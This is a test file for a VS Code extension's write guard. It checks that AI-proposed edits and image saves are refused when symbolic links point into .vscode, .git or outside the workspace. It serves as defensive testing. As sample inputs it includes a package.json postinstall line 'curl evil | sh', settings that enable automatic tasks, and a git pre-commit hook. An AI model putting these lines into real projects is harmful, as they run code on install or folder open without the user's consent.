// The write guard (src/shared/writeGuard.ts) in the real extension host on a real disk:
// Apply through symbolic links planted before the proposal or swapped in
// between the proposal and Accept (into .vscode, outside the workspace) is refused with a clear
// message and writes nothing; a link that stays inside the workspace is written at the file it
// leads to, and the diff says so; files that configure tools carry a warning in the diff's title;
// and image folders on a non-`file` workspace folder (a file system provider over a temp folder)
// reached through a link never receive an image.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { ApplyUi, ChatApply, PendingChange } from '../../src/workspaceEdits/apply';
import type { ModelgateApi } from '../../src/extension';
import { saveAllOrNothing } from '../../src/images/imageSaver';
import { checkImageFolder } from '../../src/images/imageTarget';
import { guardWrite } from '../../src/shared/writeGuard';
import { revertAndCloseAllEditors, until } from './helpers';

const EXTENSION_ID = 'modelgate.modelgate';
const DIR = 'mg-guard-fixture';
const PNG = new Uint8Array(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64'));
const HOSTILE = '{\n  "task.allowAutomaticTasks": "on"\n}\n';

describe('write guard: Apply and image saving never write through a link (real VS Code, real disk)', function () {
  this.timeout(60_000);
  let api: ModelgateApi;
  let ws: string;
  let fix: string;
  let outside: string;
  let settingsBefore: string | undefined;
  let createdSettings = false;
  const apply = (): ChatApply => api.chat.apply;
  const settingsFile = () => path.join(ws, '.vscode', 'settings.json');
  const tasksFile = () => path.join(ws, '.vscode', 'tasks.json');
  const outsideSnapshot = () =>
    fs
      .readdirSync(outside, { recursive: true, encoding: 'utf8' })
      .sort()
      .map((f) => `${f}:${fs.statSync(path.join(outside, f)).isFile() ? fs.readFileSync(path.join(outside, f), 'utf8') : '/'}`)
      .join('|');
  let tasksExisted = false;
  let originalUi: ApplyUi | undefined;
  /** the questions Apply asked (a quick pick would wait for a person) */
  let asked: string[] = [];

  function assertNothingWritten(outsideBefore: string): void {
    assert.equal(fs.readFileSync(settingsFile(), 'utf8'), settingsBefore, '.vscode/settings.json is unchanged');
    assert.equal(fs.existsSync(tasksFile()), tasksExisted, '.vscode/tasks.json was not created');
    assert.equal(outsideSnapshot(), outsideBefore, 'nothing changed outside the workspace');
  }
  async function proposed(outcome: Awaited<ReturnType<ChatApply['propose']>>): Promise<PendingChange> {
    assert.equal(outcome.kind, 'proposed', `expected a proposed change, got ${JSON.stringify(outcome)}`);
    return (outcome as { change: PendingChange }).change;
  }
  function refusedWith(outcome: Awaited<ReturnType<ChatApply['propose']>>, message: RegExp): void {
    assert.equal(outcome.kind, 'refused', `expected a refusal, got ${JSON.stringify(outcome).slice(0, 300)}`);
    assert.match((outcome as { message: string }).message, message);
    assert.match((outcome as { message: string }).message, /Nothing was applied/);
    assert.equal(apply().pending().length, 0, 'nothing is pending');
    assert.deepEqual(asked, [], 'refused before any question');
  }

  before(async function () {
    if (!vscode.workspace.isTrusted) this.skip();
    ws = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    fix = path.join(ws, DIR);
    fs.mkdirSync(fix, { recursive: true });
    outside = fs.mkdtempSync(path.join(os.tmpdir(), 'mg-guard-out-'));
    fs.mkdirSync(path.join(ws, '.vscode'), { recursive: true });
    if (!fs.existsSync(settingsFile())) {
      fs.writeFileSync(settingsFile(), '{}\n');
      createdSettings = true;
    }
    settingsBefore = fs.readFileSync(settingsFile(), 'utf8');
    tasksExisted = fs.existsSync(tasksFile());
    const ext = vscode.extensions.getExtension<ModelgateApi>(EXTENSION_ID);
    assert.ok(ext);
    api = await ext.activate();
    originalUi = apply().ui;
    apply().ui = {
      pickPlacement: async (label) => (asked.push(`placement ${label}`), 'whole'),
      confirmLanguage: async (block, label) => (asked.push(`language ${block} ${label}`), 'apply'),
      askNewFilePath: async (suggestion) => (asked.push(`new file ${suggestion}`), undefined),
    };
  });

  beforeEach(() => {
    asked = [];
  });

  afterEach(async () => {
    for (const c of apply().pending()) await apply().discard(c.id);
    await revertAndCloseAllEditors();
  });

  after(() => {
    if (originalUi) apply().ui = originalUi;
    if (fix) fs.rmSync(fix, { recursive: true, force: true });
    if (outside) fs.rmSync(outside, { recursive: true, force: true });
    if (createdSettings) fs.rmSync(settingsFile(), { force: true });
  });

  describe('Apply: a link to .vscode or out of the workspace, planted before the proposal or swapped in before Accept', () => {
    it('innocent.json, a link to .vscode/settings.json, is refused when the answer names it', async () => {
      const before = outsideSnapshot();
      fs.symlinkSync(settingsFile(), path.join(fix, 'innocent.json'));
      refusedWith(await apply().propose({ code: HOSTILE, info: `json ${DIR}/innocent.json` }), /\.vscode/);
      assertNothingWritten(before);
    });

    it('innocent.json turned into a link to .vscode/settings.json after the proposal: Accept refuses it', async () => {
      const before = outsideSnapshot();
      const file = path.join(fix, 'innocent2.json');
      fs.writeFileSync(file, '{}\n');
      const change = await proposed(await apply().propose({ code: HOSTILE, info: `json ${DIR}/innocent2.json` }));
      fs.rmSync(file);
      fs.symlinkSync(settingsFile(), file);
      assert.equal(await apply().accept(change.id), 'refused');
      assert.match(apply().lastRefusal() ?? '', /\.vscode/);
      assert.equal(apply().pending().length, 0, 'the refused change is gone');
      const doc = vscode.workspace.textDocuments.find((d) => d.uri.fsPath === settingsFile());
      assert.ok(!doc?.isDirty, 'no buffer of settings.json holds the change');
      assertNothingWritten(before);
    });

    it('cfg/tasks.json, where cfg is a link to .vscode, is refused and .vscode/tasks.json is not created', async () => {
      const before = outsideSnapshot();
      fs.symlinkSync(path.join(ws, '.vscode'), path.join(fix, 'cfg'));
      refusedWith(await apply().propose({ code: '{ "version": "2.0.0", "tasks": [] }', info: `json ${DIR}/cfg/tasks.json` }), /\.vscode/);
      assertNothingWritten(before);
    });

    it('cfg2/ swapped for a link to .vscode between the proposal of cfg2/tasks.json and Accept: refused, nothing created', async () => {
      const before = outsideSnapshot();
      fs.mkdirSync(path.join(fix, 'cfg2'));
      const change = await proposed(await apply().propose({ code: '{ "version": "2.0.0", "tasks": [] }', info: `json ${DIR}/cfg2/tasks.json` }));
      assert.equal(change.kind, 'create');
      fs.rmSync(path.join(fix, 'cfg2'), { recursive: true });
      fs.symlinkSync(path.join(ws, '.vscode'), path.join(fix, 'cfg2'));
      assert.equal(await apply().accept(change.id), 'refused');
      assert.match(apply().lastRefusal() ?? '', /\.vscode/);
      assertNothingWritten(before);
    });

    it('later/x.ts (a new file), with later/ swapped for a link outside the workspace before Accept: refused, nothing written outside', async () => {
      const before = outsideSnapshot();
      fs.mkdirSync(path.join(fix, 'later'));
      const change = await proposed(await apply().propose({ code: 'export const x = 1;', info: `ts ${DIR}/later/x.ts` }));
      fs.rmSync(path.join(fix, 'later'), { recursive: true });
      fs.symlinkSync(outside, path.join(fix, 'later'));
      assert.equal(await apply().accept(change.id), 'refused');
      assert.match(apply().lastRefusal() ?? '', /outside the workspace/);
      assert.equal(fs.existsSync(path.join(outside, 'x.ts')), false);
      assertNothingWritten(before);
    });

    it('later2/x.ts (an existing file), with later2/ swapped for a link outside before Accept: refused, the outside copy untouched', async () => {
      fs.mkdirSync(path.join(fix, 'later2'));
      fs.writeFileSync(path.join(fix, 'later2', 'x.ts'), 'export const x = 1;\n');
      const change = await proposed(await apply().propose({ code: 'export const x = 2;', info: `ts ${DIR}/later2/x.ts` }));
      assert.equal(change.kind, 'edit');
      fs.mkdirSync(path.join(outside, 'elsewhere'));
      fs.writeFileSync(path.join(outside, 'elsewhere', 'x.ts'), 'export const x = 1;\n');
      const before = outsideSnapshot();
      fs.rmSync(path.join(fix, 'later2'), { recursive: true });
      fs.symlinkSync(path.join(outside, 'elsewhere'), path.join(fix, 'later2'));
      assert.equal(await apply().accept(change.id), 'refused');
      assert.match(apply().lastRefusal() ?? '', /outside the workspace|now leads to/);
      const outsideDoc = vscode.workspace.textDocuments.find((d) => d.uri.fsPath === path.join(outside, 'elsewhere', 'x.ts'));
      assert.ok(!outsideDoc?.isDirty, 'no buffer of the outside file holds the change');
      assertNothingWritten(before);
    });
  });

  describe('Apply: Accept writes the disk itself, never through a link swapped in later', () => {
    const saveAllAndWait = async () => {
      await vscode.commands.executeCommand('workbench.action.files.saveAll');
      await new Promise((r) => setTimeout(r, 1500)); // beyond files.autoSave's delay (afterDelay in the test profile)
    };

    it('Accept writes the file at Accept and leaves its editor saved; one undo takes the change back', async () => {
      fs.writeFileSync(path.join(fix, 'now.ts'), 'export const now = 1;\n');
      const change = await proposed(await apply().propose({ code: 'export const now = 2;', info: `ts ${DIR}/now.ts` }));
      assert.equal(await apply().accept(change.id), 'accepted');
      assert.equal(fs.readFileSync(path.join(fix, 'now.ts'), 'utf8'), change.after, 'the disk holds the change at Accept');
      const doc = vscode.workspace.textDocuments.find((d) => d.uri.fsPath === change.target.fsPath)!;
      assert.equal(doc.getText(), change.after);
      assert.equal(doc.isDirty, false, 'nothing is left for a later save');
      await vscode.commands.executeCommand('undo');
      assert.equal(doc.getText(), 'export const now = 1;\n', 'one undo takes the change back');
      await vscode.commands.executeCommand('redo');
      assert.equal(doc.getText(), change.after);
    });

    it('Accept keeps a BOM and CRLF line ends', async () => {
      const file = path.join(fix, 'crlf.ts');
      fs.writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('export const c = 1;\r\nexport const d = 1;\r\n')]));
      const change = await proposed(await apply().propose({ code: 'export const c = 2;\nexport const d = 2;', info: `ts ${DIR}/crlf.ts` }));
      assert.equal(await apply().accept(change.id), 'accepted');
      const bytes = fs.readFileSync(file);
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'the BOM is kept');
      assert.equal(bytes.subarray(3).toString('utf8'), 'export const c = 2;\r\nexport const d = 2;\r\n');
      assert.equal(vscode.workspace.textDocuments.find((d) => d.uri.fsPath === change.target.fsPath)?.isDirty, false);
    });

    it('a folder swapped for a link outside after Accept: no later save writes the change through it', async () => {
      fs.mkdirSync(path.join(fix, 'after'));
      const inside = path.join(fix, 'after', 'x.ts');
      fs.writeFileSync(inside, 'export const x = 1;\n');
      const change = await proposed(await apply().propose({ code: 'export const x = 2;', info: `ts ${DIR}/after/x.ts` }));
      // a copy outside with the same size and time: a save through the link would not even see a conflict
      fs.mkdirSync(path.join(outside, 'after'));
      const copy = path.join(outside, 'after', 'x.ts');
      fs.writeFileSync(copy, 'export const x = 1;\n');
      const st = fs.statSync(inside);
      fs.utimesSync(copy, st.atime, st.mtime);
      assert.equal(await apply().accept(change.id), 'accepted');
      fs.renameSync(path.join(fix, 'after'), path.join(fix, 'after-real'));
      fs.symlinkSync(path.join(outside, 'after'), path.join(fix, 'after'));
      const before = outsideSnapshot();
      await saveAllAndWait();
      assert.equal(outsideSnapshot(), before, 'nothing was written outside the workspace');
      assert.equal(fs.readFileSync(path.join(fix, 'after-real', 'x.ts'), 'utf8'), change.after, 'the change is in the file it was accepted for');
    });
  });

  describe('Apply: what is allowed, and what the diff says', () => {
    it('a link that stays inside the workspace: the change goes to the file it leads to, and the label names both', async () => {
      fs.mkdirSync(path.join(fix, 'real'), { recursive: true });
      fs.writeFileSync(path.join(fix, 'real', 'target.ts'), 'export const a = 1;\n');
      fs.symlinkSync(path.join(fix, 'real', 'target.ts'), path.join(fix, 'alias.ts'));
      const change = await proposed(await apply().propose({ code: 'export const a = 2;', info: `ts ${DIR}/alias.ts` }));
      assert.equal(change.target.fsPath, fs.realpathSync(path.join(fix, 'real', 'target.ts')));
      assert.equal(change.label, `${DIR}/alias.ts → ${DIR}/real/target.ts`);
      const tab = await until(
        () =>
          vscode.window.tabGroups.all
            .flatMap((g) => g.tabs)
            .find((t) => t.input instanceof vscode.TabInputTextDiff && t.input.modified.toString() === change.proposalUri.toString()),
        'the diff tab',
      );
      assert.match(tab.label, /alias\.ts → .*real\/target\.ts/);
      assert.equal(await apply().accept(change.id), 'accepted');
      const doc = vscode.workspace.textDocuments.find((d) => d.uri.fsPath === change.target.fsPath);
      assert.match(doc!.getText(), /a = 2/);
      assert.ok(fs.lstatSync(path.join(fix, 'alias.ts')).isSymbolicLink(), 'the link is left as it was');
    });

    it('a file that configures packages or CI gets a warning in the diff title; an ordinary file does not', async () => {
      fs.writeFileSync(path.join(fix, 'package.json'), '{\n  "name": "x"\n}\n');
      const pkg = await proposed(
        await apply().propose({ code: '{\n  "name": "x",\n  "scripts": { "postinstall": "curl evil | sh" }\n}', info: `json ${DIR}/package.json` }),
      );
      assert.equal(pkg.configures, 'packages');
      const ci = await proposed(await apply().propose({ code: 'on: push\njobs: {}', info: `yaml ${DIR}/.github/workflows/ci.yml` }));
      assert.equal(ci.configures, 'ci');
      const plain = await proposed(await apply().propose({ code: 'export const p = 1;', info: `ts ${DIR}/plain.ts` }));
      assert.equal(plain.configures, undefined);
      const labels = vscode.window.tabGroups.all.flatMap((g) => g.tabs).map((t) => t.label);
      assert.ok(
        labels.some((l) => /package\.json.*⚠/.test(l)),
        labels.join(' | '),
      );
      assert.ok(
        labels.some((l) => /ci\.yml.*⚠/.test(l)),
        labels.join(' | '),
      );
      assert.ok(
        labels.some((l) => /plain\.ts/.test(l) && !l.includes('⚠')),
        labels.join(' | '),
      );
    });

    it('.vscode, .git and workspace files are refused even when named directly', async () => {
      refusedWith(await apply().propose({ code: HOSTILE, info: 'json .vscode/settings.json' }), /\.vscode/);
      refusedWith(await apply().propose({ code: '#!/bin/sh', info: 'sh .git/hooks/pre-commit.sh' }), /\.git/);
      // Apply does not take `*.code-workspace` from an info string as a path at all; the guard it writes through refuses it
      const w = await guardWrite(vscode.Uri.file(path.join(fix, 'team.code-workspace')));
      assert.equal(w.ok, false);
      assert.match((w as { message: string }).message, /workspace file/);
      assert.equal(fs.existsSync(path.join(fix, 'team.code-workspace')), false);
    });
  });

  describe('image saving checks each file right before its write', () => {
    it('the folder swapped for a link outside between two images of one run: refused, rolled back, nothing outside', async () => {
      const folder = path.join(fix, 'imgs');
      fs.mkdirSync(folder);
      const before = outsideSnapshot();
      let checks = 0;
      const run = saveAllOrNothing(
        vscode.Uri.file(folder),
        ['one', 'two', 'three'].map((b) => ({ baseName: `swap-${b}`, ext: 'png', bytes: PNG })),
        {
          isCancelled: () => {
            // the 3rd check is before the second image: the folder becomes a link to a folder outside
            if (++checks === 3) {
              fs.renameSync(folder, `${folder}-real`);
              fs.symlinkSync(outside, folder);
            }
            return false;
          },
        },
      );
      await assert.rejects(run, /No image was saved: .*(symbolic link|outside the workspace)/);
      assert.equal(outsideSnapshot(), before, 'no image was written outside the workspace');
      // the first image stays in the folder that was moved away: the roll-back deletes nothing through the link
      assert.deepEqual(fs.readdirSync(`${folder}-real`), ['swap-one.png']);
    });
  });

  describe('image folders on a non-file workspace folder', () => {
    const SCHEME = 'mg-guard-vfs';
    let root: string;
    let reg: vscode.Disposable;
    let folder: vscode.WorkspaceFolder;
    const vuri = (p: string) => vscode.Uri.from({ scheme: SCHEME, path: `/ws${p ? `/${p}` : ''}` });
    const img = (baseName: string) => ({ baseName, ext: 'png', bytes: PNG });

    before(() => {
      root = fs.mkdtempSync(path.join(os.tmpdir(), 'mg-guard-vfs-'));
      const disk = (u: vscode.Uri) => path.join(root, ...u.path.split('/').filter(Boolean));
      const notFound = (u: vscode.Uri) => vscode.FileSystemError.FileNotFound(u);
      const typeOf = (st: fs.Stats) => (st.isDirectory() ? vscode.FileType.Directory : st.isFile() ? vscode.FileType.File : vscode.FileType.Unknown);
      // a remote-like file system over a temp folder: stat reports links as VS Code's do
      const provider: vscode.FileSystemProvider = {
        onDidChangeFile: new vscode.EventEmitter<vscode.FileChangeEvent[]>().event,
        watch: () => new vscode.Disposable(() => undefined),
        stat(u) {
          const p = disk(u);
          let l: fs.Stats;
          try {
            l = fs.lstatSync(p);
          } catch {
            throw notFound(u);
          }
          if (!l.isSymbolicLink()) return { type: typeOf(l), ctime: l.ctimeMs, mtime: l.mtimeMs, size: l.size };
          const t = fs.statSync(p, { throwIfNoEntry: false });
          return { type: vscode.FileType.SymbolicLink | (t ? typeOf(t) : 0), ctime: l.ctimeMs, mtime: l.mtimeMs, size: t?.size ?? 0 };
        },
        readDirectory: (u) =>
          fs.readdirSync(disk(u), { withFileTypes: true }).map((d) => [d.name, d.isDirectory() ? vscode.FileType.Directory : vscode.FileType.File]),
        createDirectory: (u) => fs.mkdirSync(disk(u)),
        readFile: (u) => fs.readFileSync(disk(u)),
        writeFile: (u, content) => fs.writeFileSync(disk(u), content),
        delete: (u, o) => fs.rmSync(disk(u), { recursive: o.recursive, force: true }),
        rename: (a, b) => fs.renameSync(disk(a), disk(b)),
      };
      reg = vscode.workspace.registerFileSystemProvider(SCHEME, provider, { isCaseSensitive: true });
      folder = { uri: vuri(''), name: 'virtual', index: 0 };
      fs.mkdirSync(path.join(root, 'ws', 'sub', 'real'), { recursive: true });
      fs.symlinkSync(outside, path.join(root, 'ws', 'dirlink'));
      fs.symlinkSync(outside, path.join(root, 'ws', 'sub', 'deeplink'));
    });
    after(() => {
      reg?.dispose();
      if (root) fs.rmSync(root, { recursive: true, force: true });
    });

    for (const [name, rel] of [
      ['dirlink', 'dirlink'],
      ['sub/deeplink', 'sub/deeplink'],
      ['a new folder below dirlink', 'dirlink/new'],
      ['a new folder below sub/deeplink', 'sub/deeplink/new/deeper'],
    ] as const) {
      it(`${name}: refused as an image folder, and saving there writes nothing outside`, async () => {
        const before = outsideSnapshot();
        await assert.rejects(checkImageFolder(vuri(rel), [folder]), /symbolic link/);
        await assert.rejects(saveAllOrNothing(vuri(rel), [img('escape')], { folders: [folder] }), /symbolic link/);
        const w = await guardWrite(vuri(`${rel}/escape.png`), { folders: [folder] });
        assert.equal(w.ok, false);
        assert.equal(outsideSnapshot(), before);
      });
    }

    it('a real folder of the same file system is accepted and receives the image (the provider works)', async () => {
      const target = await checkImageFolder(vuri('sub/real'), [folder]);
      const [saved] = await saveAllOrNothing(target.folder, [img('inside')], { folders: [folder] });
      assert.equal(saved!.toString(), vuri('sub/real/inside.png').toString());
      assert.deepEqual(new Uint8Array(fs.readFileSync(path.join(root, 'ws', 'sub', 'real', 'inside.png'))), PNG);
    });
  });
});
